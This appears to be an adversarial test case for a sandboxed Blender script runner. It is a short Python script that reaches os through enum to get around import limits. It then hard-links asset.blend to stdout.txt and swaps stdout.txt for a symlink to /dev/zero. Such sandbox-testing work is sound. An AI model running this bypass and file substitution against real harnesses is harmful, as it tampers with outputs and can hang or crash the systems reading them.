# attack: asset.blend is a hard link to stdout.txt, and stdout.txt is replaced by a device
# family: reports
import bpy
import enum

system = max([enum], key=id).sys
os = system.modules["os"]
arguments = list(system.argv)
folder = arguments[arguments.index("--dir") + 1] if "--dir" in arguments else os.getcwd()
print("REACHED", os, folder)
bpy.ops.mesh.primitive_cube_add()
os.link(folder + "/stdout.txt", folder + "/asset.blend")
os.unlink(folder + "/stdout.txt")
os.symlink("/dev/zero", folder + "/stdout.txt")
